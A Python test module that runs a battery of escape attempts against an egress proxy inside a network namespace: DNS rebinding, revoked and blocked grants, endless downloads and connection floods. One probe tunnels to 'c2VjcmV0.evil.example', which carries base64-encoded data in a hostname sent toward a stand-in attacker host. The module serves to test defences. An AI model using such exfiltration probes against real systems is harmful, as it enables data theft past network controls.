"""All attempts at an escape that are made in the lab, and those among them that change something or use something up.

`run` makes them in a network namespace, and returns what each saw.
"""

import contextlib
import socket
import ssl
import tempfile
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

from binder_egress.proxy import answers, tunnels
from tests.support.egress_proxy import attempts as attempts_of_pods
from tests.support.egress_proxy.attempts import (
    ANY,
    LAB,
    LISTED,
    REBINDING,
    Attempt,
    Pod,
    act,
    attempts,
    connect,
    get,
    open_tunnel,
    plain,
    rebinding,
    receive,
    tunnel,
)
from tests.support.egress_proxy.hellos import hello_for
from tests.support.egress_proxy.lab import CUT, PODS, WAIT_SECONDS, Lab, begin, end, in_namespace


def rebound(lab: Lab) -> str:
    def wait() -> None:
        lab.later += 60

    return rebinding(PODS[ANY], wait)


def unasked(lab: Lab) -> str:
    """Refused by its name, before the address is looked up."""
    seen = tunnel(PODS[LISTED], "c2VjcmV0.evil.example:443", "x")
    return f"{seen}, {'REACHED DNS' if 'c2VjcmV0.evil.example' in lab.asked else 'DNS was not asked'}"


def grant(lab: Lab) -> str:
    lab.publish("cut", CUT, "unverified")
    before = tunnel(CUT, "evil.example:443", "evil.example")
    lab.publish("cut", CUT, "full")
    first = "REACHED before" if "ServerHello" in before else "first refused"
    return f"{first}, then {tunnel(CUT, 'evil.example:443', 'evil.example')}"


def endless(pod: Pod) -> tuple[socket.socket, socket.socket]:
    """A download with TLS, and one with plain HTTP."""
    context = ssl._create_unverified_context()
    connection, _ = open_tunnel(pod, "evil.example:443")
    secure = context.wrap_socket(connection, server_hostname="evil.example")
    secure.sendall(b"GET /endless HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    clear = connect(pod)
    clear.sendall(get("http://evil.example/endless").encode())
    assert secure.recv(1) and clear.recv(1)
    return secure, clear


def seconds_to_end(connection: socket.socket) -> float:
    began = time.monotonic()
    connection.settimeout(WAIT_SECONDS)
    with contextlib.suppress(OSError):
        while time.monotonic() - began < WAIT_SECONDS and connection.recv(1 << 20):
            pass
    return time.monotonic() - began


def cut(change: Callable[[Lab], None]) -> Callable[[Lab], str]:
    def changed(lab: Lab) -> str:
        lab.publish("cut", CUT, "full")
        ending, living = endless(CUT), endless(PODS[ANY])
        idle, _ = open_tunnel(CUT, "evil.example:443")
        silent, _ = open_tunnel(CUT, "evil.example:443", hello_for("evil.example"))
        time.sleep(0.1)
        change(lab)
        took = [seconds_to_end(one) for one in (*ending, idle, silent)]
        alive = all(one.recv(1) for one in living)
        for one in (*ending, *living, idle, silent):
            one.close()
        lab.publish("cut", CUT, "full")
        ended = "cut" if max(took) < WAIT_SECONDS else "REACHED"
        return f"{'others live' if alive else 'REACHED: others ended'}, {ended} after {took}"

    return changed


def kept(lab: Lab) -> str:
    """A tunnel to a host of both tiers stays open."""
    lab.publish("cut", CUT, "full")
    context = ssl._create_unverified_context()
    connection, _ = open_tunnel(CUT, "ok.example:443")
    secure = context.wrap_socket(connection, server_hostname="ok.example")
    lab.publish("cut", CUT, "unverified")
    time.sleep(0.1)
    secure.sendall(b"GET / HTTP/1.1\r\nHost: ok.example\r\nConnection: close\r\n\r\n")
    with secure:
        return receive(secure)


def crowd(lab: Lab) -> str:
    """One pod holds as many connections as allowed; another pod still works."""
    while lab.proxy.open:
        time.sleep(0.05)
    held = [connect(CUT) for _ in range(70)]
    time.sleep(0.3)
    line = plain(CUT, get("http://ok.example/"))
    other = plain(PODS[LISTED], get("http://ok.example/"))
    for one in held:
        one.close()
    return f"{line} and {other}"


def one_after_the_other() -> list[Attempt]:
    """The attempts that change something, or use something up."""
    again, change, limit = (
        "an address used again at once",
        "what a change no longer allows goes on",
        "more connections than the limit",
    )
    living = "others live, cut"
    found = [
        Attempt(REBINDING, "a public and a private address in turn", rebound, reaches="both answers"),
        Attempt("data in names that are not listed", "CONNECT", unasked, reaches="DNS was not asked"),
        Attempt(change, "a grant opens", grant, reaches="first refused, then ServerHello"),
        Attempt(change, "revoked", cut(lambda lab: lab.publish("cut", CUT, "unverified")), reaches=living),
        Attempt(change, "blocked", cut(lambda lab: lab.publish("cut", CUT, "unverified", True)), reaches=living),
        Attempt(change, "the pod ends", cut(lambda lab: lab.publish("cut", CUT, "")), reaches=living),
        Attempt(again, "by the next pod", cut(lambda lab: lab.publish("x", CUT, "full")), reaches=living),
        Attempt(again, "and free again", lambda lab: (lab.publish("x", CUT, ""), kept(lab))[1], reaches="REACHED host=ok"),
        Attempt(limit, "by one pod", crowd, reaches="HTTP/1.1 429 "),
        Attempt(limit, "another pod meanwhile", crowd, reaches="and HTTP/1.1 200 OK | REACHED host=ok.example"),
    ]
    return [replace(attempt, where=(LAB,)) for attempt in found]


def made() -> list[Attempt]:
    """All attempts that are made here."""
    return [attempt for attempt in (*attempts(), *one_after_the_other()) if LAB in attempt.where]


def run() -> dict[str, list]:
    """Run the battery. Returns attempt → [whether it ended as it must, what was seen]."""
    return in_namespace(__spec__.name)


def main() -> None:
    """In the namespace: make all attempts, and print the results."""
    # All of this is on one machine, which may be slow. Late answers must not count as missing.
    attempts_of_pods.answer_seconds = WAIT_SECONDS
    tunnels.HELLO_SECONDS = 3.0
    answers.LINGER_SECONDS = 0.2
    with tempfile.TemporaryDirectory() as folder:
        lab = begin(Path(folder))
    side_by_side = [attempt for attempt in attempts() if LAB in attempt.where]
    with ThreadPoolExecutor(8) as pool:
        seen = pool.map(lambda attempt: act(attempt, PODS[attempt.pod]), side_by_side)
        found = dict(zip((attempt.id for attempt in side_by_side), seen, strict=True))
    # A tunnel without a ClientHello must not end by itself before the test looks at it.
    tunnels.HELLO_SECONDS = 4 * WAIT_SECONDS
    for attempt in one_after_the_other():
        found[attempt.id] = act(attempt, lab)
    end(found)


if __name__ == "__main__":
    main()
